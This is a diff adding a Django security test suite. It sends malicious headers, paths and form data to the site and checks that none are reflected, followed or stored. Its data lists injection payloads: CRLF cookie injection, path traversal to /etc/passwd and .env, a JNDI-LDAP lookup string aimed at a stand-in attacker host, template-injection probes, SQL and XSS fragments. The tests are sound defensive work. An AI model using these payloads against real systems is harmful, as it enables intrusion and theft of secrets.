@@ -1,0 +1,124 @@
+"""What somebody sends who means harm: in headers, paths, bodies and words."""
+
+from urllib.parse import unquote_to_bytes
+
+import pytest
+from django.conf import settings as site
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+
+from tests.factories import PartnerFactory
+
+pytestmark = pytest.mark.django_db
+BREAK = "x\r\nSet-Cookie: stolen=1"
+HEADERS = {
+    "Accept": ["*/*;q=" + "9" * 5000, "text/html;q=x,,;"],
+    "Accept-Encoding": ["gzip;q=nan, *;q=-1", "," * 5000],
+    "Accept-Language": ["en-" * 3000, "xx;q=1e999, ../../etc/passwd", "\xff\xfe"],
+    "Cookie": [
+        "csrftoken=" + "a" * 9000,
+        "sessionid=../../etc/passwd; =;;",
+        "messages=[[]]",
+    ],
+    "Forwarded": ["for=evil.example;host=evil.example"],
+    "HX-Request": ["true", BREAK],
+    "HX-Target": ["catalogue", "<script>", BREAK],
+    "HX-Current-URL": ["javascript:alert(1)"],
+    "If-Modified-Since": ["Thu, 99 Foo 99999 99:99:99 GMT"],
+    "If-None-Match": ['"' * 5000, "W/" * 3000, "*"],
+    "Origin": ["null", "https://evil.example"],
+    "Range": ["bytes=0-18446744073709551615", "bytes=" + "0-1," * 2000],
+    "Referer": ["https://evil.example/<script>"],
+    "User-Agent": ["{{7*7}}${jndi:ldap://evil.example}", "\xff" * 300],
+    "X-Forwarded-For": ["127.0.0.1", "a" * 5000],
+    "X-Forwarded-Host": ["evil.example"],
+    "X-Forwarded-Proto": ["https"],
+    "X-HTTP-Method-Override": ["DELETE"],
+    "X-Original-URL": ["/admin/"],
+    "X-Rewrite-URL": ["/admin/"],
+}
+PATHS = [
+    *("//evil.example/", "///evil.example/institutes", "/\\evil.example/", "/%5cevil"),
+    *("/static/../../manage.py", "/static/%2e%2e/%2e%2e/manage.py", "/static/..%2fx"),
+    *("/static//etc/passwd", "/static/%00", "/data/../../etc/passwd.csv"),
+    *(
+        "/data/..%2f..%2fsettings.csv",
+        "/data/auth_user.csv",
+        "/data/axes_accesslog.csv",
+    ),
+    *("/institutes/%0d%0aSet-Cookie:%20x=1", "/institutes/iacmi%00/", "/%ff%fe/"),
+    *("/institutes/../admin/", "/institutes/{{7*7}}/", "/partners/' OR 1=1--/"),
+    *("/media/x", "/.env", "/.git/config", "/.data/secret-key", "/manage.py"),
+    *("/" + "a/" * 2000, "/" + "a" * 20_000, "/places/" + "%F0%9F%92%A9" * 50 + "/"),
+]
+
+
+@pytest.mark.parametrize("name", HEADERS)
+def test_no_header_breaks_a_page_or_comes_back_in_it(client, name):
+    for value in HEADERS[name]:
+        for address in ("/", "/partners/?find_state=o", "/partners.csv", "/admin/"):
+            response = client.get(address, headers={name: value})
+            body = b"".join(response) if response.streaming else response.content
+
+            assert response.status_code in (200, 206, 302, 304), (address, value)
+            assert b"evil.example" not in body
+            assert b"<script>" not in body
+            assert "evil" not in response.get("Location", "")
+            assert "stolen" not in str(response.cookies)
+
+
+@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:40])
+def test_no_path_leads_out_of_the_site_or_to_its_files(client, path):
+    arrives = unquote_to_bytes(path).decode("latin-1")  # As a server passes it on.
+    response = client.get("/", PATH_INFO=arrives)
+    body = b"".join(response) if response.streaming else response.content
+
+    assert response.status_code in (301, 302, 400, 404)
+    to = response.get("Location", "/")
+    assert to.startswith("/")
+    assert not to.startswith(("//", "/\\"))
+    assert all(value.isprintable() for value in response.headers.values())
+    assert site.SECRET_KEY.encode() not in body
+
+
+@pytest.mark.parametrize("words", ["{{7*7}}", "{% debug %}", "{{ request.user }}"])
+def test_words_are_no_template(client, words):
+    PartnerFactory(name=f"Works {words}", key="works")
+    for address in (
+        "/partners/works/",
+        "/partners/",
+        f"/search/?q={words.replace('%', '%25')}",
+    ):
+        page = client.get(address).content.decode()
+
+        assert words in page
+        assert "49" not in page.partition("<title>")[2].partition("</title>")[0]
+
+
+@pytest.mark.parametrize("client", [Client(), Client(enforce_csrf_checks=True)])
+@pytest.mark.parametrize("address", ["/", "/institutes/", "/search/", "/admin/login/"])
+def test_a_body_without_end_is_refused_or_not_read(client, address):
+    large = "application/x-www-form-urlencoded"
+    body = b"username=" + b"x" * (site.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)
+
+    read = client.generic("GET", address, body, content_type=large)
+    posted = client.post(address, body, content_type=large)
+
+    assert read.status_code == 200
+    assert posted.status_code in (400, 403, 405)
+
+
+def test_a_form_with_fields_without_end_is_refused(client):
+    body = "&".join(["a="] * (site.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1))
+    kind = "application/x-www-form-urlencoded"
+
+    assert client.post("/admin/login/", body, content_type=kind).status_code == 400
+
+
+def test_the_file_of_a_stranger_is_kept_nowhere(client):
+    file = SimpleUploadedFile("page.html", b"<script>alert(1)</script>")
+    posted = client.post("/admin/login/", {"username": "x", "file": file})
+
+    assert not posted.wsgi_request.FILES
+    assert site.MEDIA_ROOT == ""
+    assert client.get("/media/page.html").status_code == 404
